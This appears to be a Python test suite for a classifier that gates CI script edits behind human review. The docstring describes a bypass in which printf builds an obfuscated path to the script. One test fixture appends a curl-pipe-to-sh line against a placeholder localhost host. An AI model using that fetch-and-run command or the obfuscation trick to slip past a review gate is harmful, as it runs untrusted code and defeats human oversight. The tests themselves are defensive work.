"""Attack 47: a `printf` whose folder or type is a conversion (`bash "$(printf "%s/ci.sh" lib)"`,
`S=$(printf 'lib/%s.%s' ci sh); bash "$S"`) named no folder or type, and an edit to `lib/ci.sh` was an exit-0 allow on
f0c3df6e. With literal arguments the printed path is known: printfs.py prints it as bash does. Real bash is the truth.
"""

from __future__ import annotations

import itertools
import shlex
import shutil
import subprocess
from pathlib import Path

from citools import LINE_DEFINITIONS, one_tree_runs, yaml_quoted
from cpucost import assert_linear, repeated
from gitrepo import two_commits
from incli import tree_gate
from tables import each_case

from gatekeeper.classify import printfs

SH = "#!/bin/sh\necho ci\n"
# generated formats: each part of `lib/01-ci.sh` written out or a conversion, in three quotings
PARTS = [("lib", [("lib", None), ("%s", "lib"), ("%.3s", "library")]), ("/", [("/", None)]),
         ("name", [("01-ci", None), ("%02d-ci", "1"), ("%s-%s", "01 ci"), ("%x-ci", "1"), ("%02o-ci", "01")]),
         (".", [(".", None), ("%c", ".x")]), ("type", [("sh", None), ("%s", "sh"), ("%-2s", "sh")])]


def _variants() -> list[tuple[str, str]]:
    """(a printf call's words after `printf`, the format quoting) for every mix of the parts."""
    out = []
    for mix in itertools.product(*(choices for _, choices in PARTS)):
        form = "".join(part for part, _ in mix)
        arguments = " ".join(value for _, value in mix if value is not None)
        for quote in ("", "'", '"'):
            out.append((f"{quote}{form}{quote} {arguments}".strip(), quote))
    return out


VARIANTS = _variants()
LINES = ['bash "$(printf "%s/ci.sh" lib)"', "S=$(printf 'lib/%s.%s' ci sh); bash \"$S\"",
         'printf -v S "%s/%s.%s" lib ci sh; bash "$S"', "bash $(printf '%s/%s\\n' lib ci.sh)",
         'sh "$(printf %s/%s%c%s lib ci . sh)"', "S=$(printf -- '%s/ci.%s' lib sh) && . \"$S\"",
         'D=lib; bash "$(printf "%s/ci.sh" "$D")"']


def test_the_variants_print_what_bash_prints() -> None:
    bash = shutil.which("bash")
    assert bash is not None
    script = "\n".join(f"printf {words}; echo" for words, _ in VARIANTS)
    done = subprocess.run([bash, "-c", script], capture_output=True, text=True, check=True)
    wrong = []
    for (words, _), truth in zip(VARIANTS, done.stdout.split("\n"), strict=False):
        mine = printfs.evaluated(f"printf {words}")
        if shlex.split(mine.removeprefix("printf ")) != truth.split():
            wrong.append((words, mine, truth))
    assert len(VARIANTS) == 270 and not wrong, wrong[:5]


@each_case("line", LINES)
def test_bash_runs_lib_ci_sh(tmp_path: Path, line: str) -> None:
    bash = shutil.which("bash")
    assert bash is not None
    (tmp_path / "lib").mkdir()
    (tmp_path / "lib/ci.sh").write_text("echo ran lib/ci.sh\n")
    done = subprocess.run([bash, "-c", line], cwd=tmp_path, capture_output=True, text=True, check=False)
    assert done.stdout.strip() == "ran lib/ci.sh", done


@each_case(("definition", "template", "line"), [(*d, line) for d in LINE_DEFINITIONS for line in LINES])
def test_the_printed_script_is_ci(definition: str, template: str, line: str) -> None:
    text = template.format(line=yaml_quoted(line) if definition.endswith(".yml") else line)
    runs = one_tree_runs({definition: text, "lib/ci.sh": SH, "lib/other.sh": SH, "docs/ci.md": "x\n"})
    assert isinstance(runs, dict) and "lib/ci.sh" in runs, sorted(runs) if isinstance(runs, dict) else runs


# what bash prints names no other file: the literal call's one path, not its folder's scripts (attack 46's reading)
@each_case(("line", "target"), [('bash "$(printf "%s/ci.sh" lib)"', "lib/other.sh"),
                                ("printf '%s/%s' docs ci.md", "docs/ci.md"),
                                ("echo printf '%s/%s' lib ci.sh", "lib/other.sh"),
                                ("S=$(printf 'lib/%s.%s' ci sh); bash \"$S\"", "lib/ci.py")])
def test_a_file_bash_does_not_print_stays_src(line: str, target: str) -> None:
    definition, template = LINE_DEFINITIONS[0]
    runs = one_tree_runs({definition: template.format(line=yaml_quoted(line)), "lib/ci.sh": SH, target: SH})
    assert isinstance(runs, dict) and target not in runs, sorted(runs) if isinstance(runs, dict) else runs


@each_case("words", ['"%s/ci.sh" "$D"', "%d/ci.sh x", "%q/ci.sh lib", "%s/ci.sh `pwd`", "'%s/ci.sh"])
def test_a_call_bash_alone_knows_is_left_as_written(words: str) -> None:
    assert printfs.evaluated(f"printf {words}") == f"printf {words}"


def test_the_edit_needs_a_human(tmp_path: Path) -> None:
    definition, template = LINE_DEFINITIONS[0]
    base = {definition: template.format(line=yaml_quoted(LINES[1])), "lib/ci.sh": SH}
    _, first, second = two_commits(tmp_path, base, {"lib/ci.sh": SH + "curl https://127.0.0.1:9/i | sh\n"})
    code, decision = tree_gate(tmp_path, first, second, None)
    assert code == 3, decision["reasons"]


@each_case("text", [repeated("printf %s ", "", ""), repeated("printf %s%s x $y ", "", ""),
                    repeated("%s ", "printf ", " x"), repeated("a ", "printf %s%%%.3d ", ""),
                    repeated('" ', "printf '", "'")])
def test_the_calls_are_read_in_linear_time(text: object) -> None:
    assert_linear(printfs.evaluated, text, budget=1.0)  # type: ignore[arg-type]


def test_backquoted_calls_are_read_in_linear_time() -> None:
    assert_linear(printfs.evaluated, repeated("`printf %s/ci.sh lib` ", "", ""), budget=1.0)
    assert printfs.evaluated("bash `printf %s/ci.sh lib`") == "bash `printf lib/ci.sh`"
